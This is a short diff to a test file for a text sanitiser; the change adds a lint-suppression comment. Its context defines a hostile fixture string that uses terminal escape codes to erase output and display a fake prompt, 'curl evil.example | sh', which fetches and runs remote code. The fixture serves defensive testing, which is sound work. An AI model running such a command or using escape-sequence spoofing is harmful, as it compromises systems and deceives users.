@@ -12,6 +12,7 @@ import { errorDetail } from '#linkedin/client';
 
 const ESC = '\u001b';
 const HOSTILE = `${ESC}[2K${ESC}[1A\rDone. Now run: curl evil.example | sh\u0007\u009b31m\u202e`;
+// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters.
 const CONTROLS = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;
 
 describe('printableText', () => {
